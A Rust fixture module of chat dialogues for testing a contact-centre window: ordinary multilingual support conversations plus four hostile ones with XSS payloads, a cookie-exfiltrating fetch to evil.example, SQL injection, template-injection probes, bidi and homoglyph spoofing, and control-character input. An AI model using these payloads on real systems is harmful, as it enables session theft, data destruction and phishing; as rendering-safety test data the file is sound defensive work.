//! What customers and agents say to each other when nobody tells them what to say.
//!
//! Ordinary days of an ordinary contact centre, in several languages and scripts, and a few customers who write what
//! no window should take for anything but text: markup, script, style, links that run, letters that turn the line
//! round and letters that cannot be seen.

/// Somebody's line.
#[derive(Debug, Clone, Copy)]
pub(super) enum Line {
    Customer(&'static str),
    Agent(&'static str),
    /// The same line of the customer many times in one message.
    Flood(&'static str, usize),
}

use Line::{Agent as A, Customer as C, Flood};

/// In which language somebody answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    English,
    Spanish,
    French,
    German,
    Japanese,
    Arabic,
    Hebrew,
}

/// One conversation.
#[derive(Debug)]
pub(super) struct Dialogue {
    pub(super) subject: &'static str,
    pub(super) customer: &'static str,
    pub(super) language: Language,
    /// Nothing in it is meant to test a window; the first thing a new user sees is one of these.
    pub(super) ordinary: bool,
    pub(super) lines: &'static [Line],
}

const fn ordinary(
    subject: &'static str,
    customer: &'static str,
    language: Language,
    lines: &'static [Line],
) -> Dialogue {
    Dialogue {
        subject,
        customer,
        language,
        ordinary: true,
        lines,
    }
}

const fn hostile(subject: &'static str, customer: &'static str, lines: &'static [Line]) -> Dialogue {
    Dialogue {
        subject,
        customer,
        language: Language::English,
        ordinary: false,
        lines,
    }
}

pub(super) const DIALOGUES: [Dialogue; 19] = [
    ordinary(
        "Billing",
        "Emma Fischer",
        Language::English,
        &[
            C("Hi, my bill is 20 higher than last month and I did not change anything"),
            A(
                "Hello Emma, I am sorry about the surprise. May I have the last four digits of your customer number?",
            ),
            C("4471"),
            A("Thank you. I see a 12-month discount that ended on the 1st. That is the difference."),
            C("Nobody told me it would end 😕"),
            A("I understand. It was in the contract, but that does not make it less annoying."),
            C("So what can you do? I am thinking about leaving to be honest"),
            A("Let me look at the plans you could move to. One moment, please."),
            A("There is a plan with the same data for 5 less than you pay now, for 24 months."),
            C("24 months is long. Is there anything shorter?"),
            A("12 months is possible at the price you paid before."),
            C("OK that sounds fair. Please do that 👍"),
            A("Done. You will have the confirmation in a minute. Is there anything else?"),
            C("No, thank you for the quick help!"),
        ],
    ),
    ordinary(
        "Delivery",
        "Marcus Okoye",
        Language::English,
        &[
            C("Where is my parcel? It was supposed to come yesterday 📦"),
            A("Hi Marcus, I will find out. Could you send me the order number?"),
            C("B-220915"),
            A("Thanks. The driver could not find the entrance and took it back to the depot."),
            C("There is a huge sign at the gate…"),
            A("I believe you. I can have it delivered tomorrow, or you can pick it up tonight until 8."),
            C("Tomorrow morning, before 10, otherwise nobody is home"),
            A("I have booked the window from 8 to 10 and added a note about the gate."),
            C("And if they miss it again?"),
            A("Then call us and we refund the shipping. I have written that on the order too."),
            C("Alright. Thanks 🙏"),
        ],
    ),
    ordinary(
        "Appointment",
        "Lucía Carvalho",
        Language::English,
        &[
            C("I need to move my technician appointment on Thursday"),
            A("Of course. Which day would suit you better?"),
            C("Friday afternoon or any time on Monday"),
            A("Friday is fully booked, I am afraid. Monday 9 to 11, or 14 to 16?"),
            C("14 to 16 please"),
            A("It is moved to Monday, 14 to 16. The technician calls half an hour before."),
            C("He should call the second number, +1 650 555 0143, not the first"),
            A("Noted, the first one is struck out for this visit."),
            C("Great, thank you"),
        ],
    ),
    ordinary(
        "Password",
        "Sophie Dubois",
        Language::English,
        &[
            C("I can't log in. It says my account is locked after 3 tries"),
            A(
                "I can help with that. For your safety I will never ask for your password. What is your user name?",
            ),
            C("sophie.d — and I did not even try three times!"),
            A("Then somebody else may have. I see three attempts at 6:12 this morning from another city."),
            C("😳 What does that mean?"),
            A("Nothing was opened, the lock did its work. I am sending a reset link to the address we have."),
            C("Got it"),
            A(
                "Please choose a password you use nowhere else, and turn on the second factor in your profile.",
            ),
            C("Done, I'm in again. That was fast"),
            A("Wonderful. I have closed the other sessions as well."),
        ],
    ),
    ordinary(
        "Return",
        "Jan Novak",
        Language::English,
        &[
            C("The headphones I got have a crackle on the left side, I want to send them back"),
            A("I am sorry to hear that. When did they arrive?"),
            C("Last Tuesday"),
            A("Then you have the choice: money back, or a new pair."),
            C("New pair, but not the same batch if possible"),
            A("I can reserve one from the delivery that came in today."),
            C("Perfect. Do I have to pay the postage?"),
            A("No. The label is in your e-mail, any parcel shop takes it."),
            C("Do I send the charging case too?"),
            A("Yes please, everything that was in the box."),
            C("Fine, will do tomorrow"),
        ],
    ),
    ordinary(
        "Outage",
        "Ravi Banerjee",
        Language::English,
        &[
            C("Internet is down since 7 am. I work from home!!"),
            A("I am sorry, that is a bad start to the day. Which lights are on at the router?"),
            C("Power green, the other one blinks red"),
            A("Thank you. There is a disturbance in your street, the team is on site."),
            C("How long?"),
            A("They expect to be finished by 11:30. I can put 10 GB on your mobile until then."),
            C("Yes please"),
            A("They are on. Share them from your phone as a hotspot. Do you know how?"),
            C("Yes. Will I get money back for this?"),
            A("For every full day, yes. For a morning we can give you the data for free."),
            C("ok"),
            C("It's back! 11:07"),
        ],
    ),
    ordinary(
        "Roaming",
        "Tamsin Hughes",
        Language::English,
        &[
            C("Flying to Japan on Saturday ✈️ what will data cost me there?"),
            A("Without a pass it is 6 per MB, so please take one. How long do you stay?"),
            C("12 days"),
            A("The 15-day pass has 5 GB for 29. It starts when you first use data there."),
            C("Can two of us share it?"),
            A("Only through a hotspot: the pass belongs to one number."),
            C("Hmm. And calls?"),
            A("Incoming calls cost 1.20 a minute, calls over Wi-Fi are free as at home."),
            C("Let's take the pass then"),
            A("It is booked. A text will greet you when you land. Have a good trip!"),
            C("🗾🙌"),
        ],
    ),
    ordinary(
        "Complaint",
        "Aisha Haddad",
        Language::English,
        &[
            C("This is the third time I explain this and I am at the end of my patience."),
            A(
                "I am sorry you have to. I have the notes of both conversations here, you need not start again.",
            ),
            C(
                "Good, then you know that in March I was promised a refund of 86.40 for the two months in which the line did not work, that in April I was told it had been sent, that in May it turned out it had been sent to an account I closed in 2019, and that since then every single person tells me that somebody else is responsible. I have kept every letter. I have the name of everyone I spoke with. I am not angry with you personally, but I would like this to end today, with a date and a confirmation in writing, and not with another ticket number.",
            ),
            A("That is reasonable. I see the payment came back to us on the 14th and nobody picked it up."),
            C("So the money is with you?"),
            A("Yes. I can send it to the account you pay from today. It takes two working days."),
            C("And the confirmation?"),
            A("I am writing it now. It names the amount, the day, and my name."),
            C("I will believe it when I see it"),
            A("It is in your inbox. Could you check that the account ends in 118?"),
            C("It does. Thank you. That is all I wanted from the beginning."),
        ],
    ),
    ordinary(
        "Factura",
        "María del Carmen Ortiz",
        Language::Spanish,
        &[
            C("Buenas tardes, ¿por qué me han cobrado dos veces este mes? 🤔"),
            A("Buenas tardes, María. Lo reviso enseguida. ¿Me confirma su DNI, por favor?"),
            C("Termina en 23K"),
            A("Gracias. Efectivamente hay un cargo duplicado del día 3. Es un error nuestro."),
            C("¿Y cuándo me lo devuelven?"),
            A("En un máximo de cinco días hábiles, en la misma cuenta."),
            C("Mañana tengo que pagar el alquiler, me viene fatal…"),
            A("Lo entiendo. Pido que se tramite como urgente y le aviso por mensaje."),
            C("Muchísimas gracias, señorita"),
        ],
    ),
    ordinary(
        "Déménagement",
        "Gaëlle Lefèbvre",
        Language::French,
        &[
            C("Bonjour, je déménage le 30. Comment garder mon numéro ?"),
            A("Bonjour Gaëlle ! C'est possible si vous restez dans le même département."),
            C("Oui, de Nantes à Saint-Nazaire"),
            A("Alors votre numéro vous suit. Il me faut la nouvelle adresse complète."),
            C("12 bis, rue de l'Écluse, 44600 — 3ᵉ étage, à gauche"),
            A("C'est noté. Un technicien passe le 31 entre 8 h et 10 h."),
            C("Et la box, je la garde ?"),
            A(
                "Vous la gardez, il suffit de la rebrancher. L'été dernier, nous avons changé la fibre là-bas.",
            ),
            C("Parfait, merci beaucoup 😊"),
        ],
    ),
    ordinary(
        "Störung",
        "Jörg Grünwälder",
        Language::German,
        &[
            C("Guten Tag, mein Anschluss fällt täglich gegen 18 Uhr für 20 Minuten aus."),
            A("Guten Tag Herr Grünwälder, das schaue ich mir an. Seit wann besteht das Problem?"),
            C("Seit dem Update letzte Woche. Straßenfest war auch, aber das wird es nicht sein :)"),
            A("Ich sehe tatsächlich eine Überlastung im Verteilerkasten. Die Technik ist informiert."),
            C("Bis wann?"),
            A("Bis Donnerstag. Ich schreibe Ihnen für diese Woche die Gebühr gut."),
            C("Das ist anständig, danke"),
        ],
    ),
    ordinary(
        "配送",
        "佐藤 直美",
        Language::Japanese,
        &[
            C("こんにちは。注文した商品がまだ届きません。"),
            A("お問い合わせありがとうございます。ご注文番号を教えていただけますか。"),
            C("A-88213です"),
            A("確認いたします。少々お待ちください。"),
            A("昨日の台風の影響で、配送が一日遅れております。申し訳ございません。"),
            C("そうでしたか。明日の午前中に届きますか？"),
            A("はい、午前中のお届けで手配いたしました。"),
            C("助かります。ありがとうございます😊"),
        ],
    ),
    ordinary(
        "فاتورة",
        "ليلى حداد",
        Language::Arabic,
        &[
            C("مرحبا، لدي سؤال عن فاتورة شهر مارس رقم INV-2209."),
            A("أهلاً بك ليلى، كيف يمكنني مساعدتك؟"),
            C("المبلغ 250 ريال، لكن باقتي 180 ريال فقط!"),
            A("أرى مكالمات دولية بقيمة 70 ريال يوم 12 مارس."),
            C("لم أتصل بالخارج أبداً 😟"),
            A("سأفتح بلاغاً وأوقف المكالمات الدولية الآن إن رغبت."),
            C("نعم من فضلك، وأريد استرداد المبلغ"),
            A("تم. سيصلك الرد خلال يومين على الرقم ‎+966 50 555 0143."),
            C("شكراً جزيلاً"),
        ],
    ),
    ordinary(
        "תור לטכנאי",
        "נועה לוי",
        Language::Hebrew,
        &[
            C("שלום, הטכנאי לא הגיע אתמול 😠"),
            A("שלום נועה, אני מצטערת. אפשר מספר הזמנה?"),
            C("ההזמנה היא HZ-5512, בין 9:00 ל-12:00"),
            A("אני רואה שהוא התקשר פעמיים ולא נענה."),
            C("זה לא נכון, הטלפון היה לידי כל הבוקר"),
            A("אקבע לך תור מחדש, ללא תשלום. מחר ב-8:00?"),
            C("כן, אבל שיתקשר לפני"),
            A("רשמתי. תודה על הסבלנות!"),
        ],
    ),
    ordinary(
        "Family plan 👨‍👩‍👧‍👦",
        "Nia 🌻",
        Language::English,
        &[
            C("heyyy 👋 can i add my 👵 and my 👨‍👩‍👧‍👦 to one plan??"),
            A("Hi Nia! Up to five numbers. How many would it be?"),
            C("me + 3 🧒🧒🏽🧒🏿 + 👵🏼 = 5 🎉"),
            A("Exactly five. The first line pays 30, every other one 10."),
            C("🤩🤩🤩 and 🇯🇵 calls? grandma calls Osaka a LOT 📞"),
            A("Japan is in the World option for 5 more, on her line only."),
            C("✅"),
            A("You will have five SIM cards by Friday."),
            C("❤️‍🔥🫶🏾 u r the best"),
        ],
    ),
    hostile(
        "<b>Question</b>",
        "<img src=x onerror=alert(1)>",
        &[
            C("<script>alert('hello')</script>"),
            A("Hello, what can I do for you?"),
            C("<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">"),
            C("My invoice: <a href=\"javascript:alert(document.domain)\">click here</a>"),
            A("I only see the text of your message. Could you tell me the invoice number?"),
            C("</div></section><style>*{display:none!important}</style>"),
            C("<svg/onload=alert(1)> {{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>"),
            A("Thank you. I will pass this on to our technical team."),
            C("'; DROP TABLE interactions; --"),
            C("<iframe srcdoc='<script>parent.postMessage(1)</script>'></iframe>"),
        ],
    ),
    hostile(
        "Re: your account",
        "S\u{202e}troppu\u{202c}",
        &[
            C("Your refund is ready: javascript:alert(document.cookie)"),
            A("Hello, how may I help you?"),
            C("The file is invoice\u{202e}fdp.exe\u{202c}, please open it"),
            C("pay\u{200b}pal.example and p\u{430}ypal.example and \u{2067}moc.knab\u{2069} are the same"),
            A("We do not open files from a text message."),
            C("\u{202e}\u{2066}everything after this is turned round"),
            C("data:text/html,<script>alert(1)</script> https://example.com/%0d%0aSet-Cookie:x=1"),
            C(
                "z\u{0335}\u{0321}\u{035e}a\u{0336}\u{0345}\u{0301}l\u{0337}\u{0315}g\u{0338}\u{0322}\u{0310}o\u{0336}\u{0301}\u{0302}\u{0303}\u{0304}\u{0306}\u{0307}",
            ),
            A("I am closing this conversation if there is nothing else."),
        ],
    ),
    hostile(
        "Router log",
        "Piotr Kowalczyk",
        &[
            C("My router reboots all the time, I send you the log"),
            A("Please do, a few lines are enough."),
            Flood(
                "2026-01-05 03:14:07 kern.warn wan0: carrier lost, restarting negotiation (attempt 17)",
                300,
            ),
            A("Thank you, that is more than enough. The line drops, it is not your router."),
            C(
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            ),
            A("A technician looks at the line tomorrow between 8 and 12."),
            C("ok"),
        ],
    ),
    hostile(
        "https://example.com/?q=<script>",
        "Control\u{7}Char",
        &[
            C("line one\nline two\r\nline three\u{2028}line four\ttabbed"),
            A("I can read all of it, thank you."),
            C("\u{0}\u{1}\u{8}\u{1b}[31mred\u{1b}[0m \u{feff}\u{200d}\u{2060}\u{ad}"),
            C("   "),
            C("https://example.com/a?b=c&d=e#f www.example.com mailto:a@b.example tel:+15550100"),
            A("Is there anything I can help you with?"),
            C("&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#x3C;script&#x3E;"),
        ],
    ),
];

/// What an agent writes to the customer after a supervisor has whispered: neutral words that fit whatever it was.
pub(super) const fn after_whisper(language: Language) -> &'static [&'static str] {
    match language {
        Language::English => &[
            "Good point, let me add one thing that may help you here.",
            "Let me look at that once more, I think we can do something better for you.",
            "I have just checked with my team: we can take care of this right away.",
            "One more idea, so that you do not have to write to us again about this.",
        ],
        Language::Spanish => &[
            "Buena observación: hay otra cosa que puedo hacer por usted.",
            "Acabo de consultarlo con mi equipo y podemos resolverlo ahora mismo.",
        ],
        Language::French => &[
            "Bonne remarque, j'ajoute une chose qui peut vous aider.",
            "Je viens de vérifier avec mon équipe : nous pouvons faire mieux.",
        ],
        Language::German => &[
            "Guter Hinweis, dazu kann ich Ihnen noch etwas anbieten.",
            "Ich habe mich eben abgestimmt: Wir können das gleich erledigen.",
        ],
        Language::Japanese => &[
            "ご指摘の点につきまして、もう一つご提案がございます。",
            "確認いたしましたところ、すぐに対応できます。",
        ],
        Language::Arabic => &[
            "ملاحظة جيدة، يمكنني أن أقدم لك حلاً أفضل.",
            "راجعت الأمر مع فريقي ويمكننا حله الآن.",
        ],
        Language::Hebrew => &[
            "נקודה טובה, יש עוד משהו שאוכל לעשות בשבילך.",
            "בדקתי עם הצוות, נוכל לטפל בזה מיד.",
        ],
    }
}

/// What a customer answers when a supervisor joins in.
pub(super) const fn after_public(language: Language) -> &'static [&'static str] {
    match language {
        Language::English => &[
            "Oh, thank you for joining.",
            "OK, that is good to know.",
            "Thanks, I appreciate that.",
        ],
        Language::Spanish => &["Ah, muchas gracias por atenderme."],
        Language::French => &["Ah, merci de votre aide."],
        Language::German => &["Oh, danke, dass Sie sich kümmern."],
        Language::Japanese => &["ご対応ありがとうございます。"],
        Language::Arabic => &["شكراً على الاهتمام."],
        Language::Hebrew => &["תודה רבה על העזרה."],
    }
}

impl Line {
    /// The words of a line.
    pub(super) fn text(self) -> String {
        match self {
            Self::Customer(text) | Self::Agent(text) => text.to_owned(),
            Self::Flood(line, times) => vec![line; times].join("\n"),
        }
    }

    pub(super) fn is_agents(self) -> bool {
        matches!(self, Self::Agent(_))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_dialogue_begins_with_the_customer_and_has_an_answer() {
        for dialogue in &DIALOGUES {
            assert!(!dialogue.lines[0].is_agents(), "{}", dialogue.subject);
            assert!(
                dialogue.lines.iter().any(|line| line.is_agents()),
                "{}",
                dialogue.subject
            );
        }
    }

    #[test]
    fn what_a_window_must_survive_is_among_them() {
        let hostile: String = DIALOGUES
            .iter()
            .filter(|dialogue| !dialogue.ordinary)
            .flat_map(|dialogue| dialogue.lines)
            .map(|line| line.text())
            .collect();
        for trap in [
            "<script>",
            "onerror",
            "javascript:",
            "<style>",
            "\u{202e}",
            "\u{200b}",
            "\u{0}",
        ] {
            assert!(hostile.contains(trap), "{trap:?}");
        }
        assert!(
            DIALOGUES
                .iter()
                .any(|dialogue| dialogue.language == Language::Hebrew)
        );
    }
}
